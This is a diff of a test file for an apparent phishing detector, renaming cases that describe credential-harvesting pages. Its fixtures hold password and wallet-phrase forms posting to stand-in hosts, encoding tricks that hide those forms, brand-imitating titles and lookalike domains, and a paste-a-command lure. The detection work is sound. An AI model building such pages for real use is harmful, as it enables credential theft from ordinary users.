@@ -17,118 +17,122 @@ const bad: [name: string, found: string, pages: TestPages][] = [
     page(`<title>Portal</title>\n${steals}`),
   ],
   [
-    'one that posts to another site of the service',
+    'a password form that posts to another site of the service',
     'password_sent_elsewhere index.html:1',
     page(`<form action="http://other.sites.example:4400/api/x">${password}</form>`),
   ],
   [
-    'one whose address leaves out the protocol',
+    'a password form whose URL has no protocol',
     'password_sent_elsewhere index.html:1',
     page(`<form action="//collect.example/p">${password}</form>`),
   ],
   [
-    'one that a base leads elsewhere',
+    'a password form redirected by a base element',
     'password_sent_elsewhere index.html:3',
     page(
       `<base href="https://collect.example/">\n<title>x</title>\n<form action="/login">${password}</form>`,
     ),
   ],
   [
-    'one whose button leads elsewhere',
+    'a password form whose button posts elsewhere',
     'password_sent_elsewhere index.html:2',
     page(
       `<form action="/api/login">${password}\n<button formaction="https://collect.example">Go</button></form>`,
     ),
   ],
   [
-    'one whose field stands outside of the form',
+    'a password field outside its form',
     'password_sent_elsewhere index.html:1',
     page(
       `<form id="f" action="https://collect.example"></form><p><input form="f" type="password"></p>`,
     ),
   ],
   [
-    'one that is sent by mail',
+    'a password form that is sent by mail',
     'password_sent_elsewhere index.html:1',
     page(`<form action="mailto:me@example.com">${password}</form>`),
   ],
   [
-    'one whose field only looks like a password',
+    'a text field styled like a password',
     'password_sent_elsewhere index.html:1',
     page(
       `<form action="https://collect.example"><input type="text" style="-webkit-text-security: disc" name="x"></form>`,
     ),
   ],
   [
-    'one whose field is named a password',
+    'a field named like a password',
     'password_sent_elsewhere index.html:1',
     page(`<form action="https://collect.example"><input name="wachtwoord"></form>`),
   ],
   [
-    'one in broken markup',
+    'a password form in malformed HTML',
     'password_sent_elsewhere index.html:1',
     page(`<table><form action=https://collect.example><tr><td><INPUT TYPE=Password ></table>`),
   ],
   [
-    'one in entities',
+    'a password form whose URL is encoded as entities',
     'password_sent_elsewhere index.html:1',
     page(`<form action="https&#58;&#x2f;/collect.example">${password}</form>`),
   ],
   [
-    'one in a style of a drawing, which is no style',
+    'a password form in a style element of an SVG',
     'password_sent_elsewhere index.html:1',
     page(`<svg><style><div>${steals}</style></svg>`),
   ],
   [
-    'one in a part for browsers without scripts',
+    'a password form in noscript',
     'password_sent_elsewhere index.html:1',
     page(`<noscript>${steals}</noscript>`),
   ],
   [
-    'one in a frame inside the page',
+    'a password form in srcdoc of a frame',
     'password_sent_elsewhere index.html:2',
     page(`<title>x</title>\n<iframe srcdoc="${steals.replaceAll('"', '&quot;')}"></iframe>`),
   ],
   [
-    'one in a data address',
+    'a password form in a base64 data URL',
     'password_sent_elsewhere index.html:1',
     page(`<iframe src="data:text/html;base64,${Buffer.from(steals).toString('base64')}"></iframe>`),
   ],
   [
-    'one in an escaped data address',
+    'a password form in a percent-encoded data URL',
     'password_sent_elsewhere index.html:1',
     page(`<object data="data:text/html;charset=utf-8,${encodeURIComponent(steals)}"></object>`),
   ],
   [
-    'one that a script writes from escaped text',
+    'a password form written by a script from escaped text',
     'password_sent_elsewhere index.html:2',
     page(
       `<title>x</title><script>\ndocument.write(unescape('${encodeURIComponent(steals)}'))</script>`,
     ),
   ],
   [
-    'one that a script writes from base64',
+    'a password form written by a script from base64',
     'password_sent_elsewhere index.html:1',
     page(`<script>document.write(atob("${Buffer.from(steals).toString('base64')}"))</script>`),
   ],
-  ['one packed three times', 'password_sent_elsewhere index.html:1', page(packed(3))],
-  ['one packed more often than that', 'page_hidden_too_deep index.html:1', page(packed(4))],
   [
-    'one in a page that is no .html',
+    'a password form in three nested frames',
+    'password_sent_elsewhere index.html:1',
+    page(packed(3)),
+  ],
+  ['a password form in four nested frames', 'page_hidden_too_deep index.html:1', page(packed(4))],
+  [
+    'a password form in an SVG file',
     'password_sent_elsewhere a.svg:1',
     {
       'a.svg': `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>${steals}</foreignObject></svg>`,
     },
   ],
   [
-    'one in a page of sixteen bits',
+    'a password form in a UTF-16 page',
     'password_sent_elsewhere index.html:1',
     {
       'index.html': Buffer.from(`\ufeff${steals}`, 'utf16le'),
     },
   ],
   [
-    'one in a file of a folder',
+    'a password form in a folder',
     'password_sent_elsewhere a/b c/login.html:1',
     { 'a/b c/login.html': steals },
   ],
@@ -140,26 +144,26 @@ const bad: [name: string, found: string, pages: TestPages][] = [
     ),
   ],
   [
-    'a password that goes into a collection',
+    'a password form that posts to a collection',
     'secret_kept_in_collection index.html:1',
     page(
       `<form action="https://homeport.example/api/v1/public/collections/logins/documents">${password}</form>`,
     ),
   ],
   [
-    'a card number that goes into a collection',
+    'a card form that posts to a collection',
     'secret_kept_in_collection index.html:1',
     page(`<form data-collection="cards"><input name="cardnumber"></form>`),
   ],
   [
-    'a field for the words of a wallet',
+    'a field for the recovery phrase of a wallet',
     'wallet_phrase_asked index.html:2',
     page(
       `<title>Validate</title>\n<textarea placeholder="Enter your 12-word recovery phrase"></textarea>`,
     ),
   ],
   [
-    'the same, told by its label',
+    'a field for a recovery phrase, identified by its label',
     'wallet_phrase_asked index.html:1',
     page(`<label for="w">Secret Recovery Phrase</label><input id="w" name="w">`),
   ],
@@ -169,27 +173,27 @@ const bad: [name: string, found: string, pages: TestPages][] = [
     page(`<title>Mijn ING - Inloggen</title>\n<form action="/api/x">${password}</form>`),
   ],
   [
-    'one of a payment service',
+    'a sign-in page of a payment service',
     'imitates_brand index.html:1',
     page(`<title>Log in to your PayPal account</title>${password}`),
   ],
   [
-    'one with letters of another alphabet',
+    'a sign-in page with letters of another alphabet',
     'imitates_brand index.html:1',
     page(`<title>Рауpal: Login</title><form>${password}</form>`),
   ],
   [
-    'one with letters that cannot be seen',
+    'a sign-in page with invisible letters',
     'imitates_brand index.html:1',
     page(`<title>Pay\u200bPal: Log\u00adin</title><form>${password}</form>`),
   ],
   [
-    'one whose title says nothing',
+    'a sign-in page with a brand in its heading and a meaningless title',
     'imitates_brand index.html:1',
     page(`<title>Untitled document</title><h1>Microsoft</h1><form>${password}</form>`),
   ],
   [
-    'one without a title, told by its heading',
+    'a sign-in page with a brand in its heading and no title',
     'imitates_brand index.html:1',
     {
       'index.html': `<h1>Welkom bij DigiD</h1><form>${password}</form>`,
@@ -197,19 +201,19 @@ const bad: [name: string, found: string, pages: TestPages][] = [
     },
   ],
   [
-    'one that asks for a code',
+    'a page of a bank that asks for a PIN',
     'imitates_brand index.html:1',
     page(`<title>Rabobank</title><form><input name="pincode"></form>`),
   ],
   [
-    'one that loads the icon of the brand it is named for',
+    'a sign-in page with an ambiguous brand name that loads the icon of the brand',
     'imitates_brand index.html:1',
     page(
       `<title>Apple</title><link rel="icon" href="https://www.apple.com/favicon.ico"><form>${password}</form>`,
     ),
   ],
   [
-    'one whose sign-in is in a script file',
+    'a sign-in page whose password field is in a script file',
     'imitates_brand index.html:1',
     {
       ...page(`<title>Netflix</title><div id="root"></div><script src="/app.js"></script>`),
@@ -217,27 +221,27 @@ const bad: [name: string, found: string, pages: TestPages][] = [
     },
   ],
   [
-    'one of this service itself',
+    'a sign-in page of this service',
     'imitates_brand index.html:1',
     page(`<title>Homeport - sign in</title>${password}`),
   ],
   [
-    'a link that shows a bank and leads elsewhere',
+    'a link that shows a bank but leads elsewhere',
     'link_shows_other_address index.html:2',
     page(`<title>x</title>\n<a href="https://evil.example/x">https://www.ing.nl/inloggen</a>`),
   ],
   [
-    'one to a page of the site itself',
+    'a link that shows a brand but leads to the site itself',
     'link_shows_other_address index.html:1',
     page(`<a href="/login.html">www.paypal.com</a>`),
   ],
   [
-    'a link with the name of another before an @',
+    'a link with the host of a brand before an @',
     'address_hides_host index.html:1',
     page(`<a href="https://www.rabobank.nl@evil.example/">Rabobank</a>`),
   ],
   [
-    'a link with digits in the place of letters',
+    'a link with digits instead of letters',
     'address_looks_like_brand index.html:1',
     page(`<a href="https://www.paypa1.com/">PayPal</a>`),
   ],
@@ -247,7 +251,7 @@ const bad: [name: string, found: string, pages: TestPages][] = [
     page(`<a href="https://www.раypal.com/">PayPal</a>`),
   ],
   [
-    'a link that begins like a brand',
+    'a link whose host begins with the host of a brand',
     'address_looks_like_brand index.html:1',
     page(`<a href="https://login.microsoftonline.com.session.example/">Sign in</a>`),
   ],
@@ -257,7 +261,7 @@ const bad: [name: string, found: string, pages: TestPages][] = [
     page(`<iframe src="https://rnicrosoft.com/"></iframe>`),
   ],
   [
-    'a page that goes on to such an address by itself',
+    'a page that redirects to an imitated host',
     'address_looks_like_brand index.html:1',
     page(`<meta http-equiv="refresh" content="0;url='https://paypa1.com/'">`),
   ],
@@ -292,7 +296,7 @@ const bad: [name: string, found: string, pages: TestPages][] = [
     },
   ],
   [
-    'a page that has visitors run a command',
+    'a page that instructs visitors to run a command',
     'command_to_paste index.html:2',
     page(
       `<p>To prove that you are human press Windows Key + R, then Ctrl + V and Enter.</p>
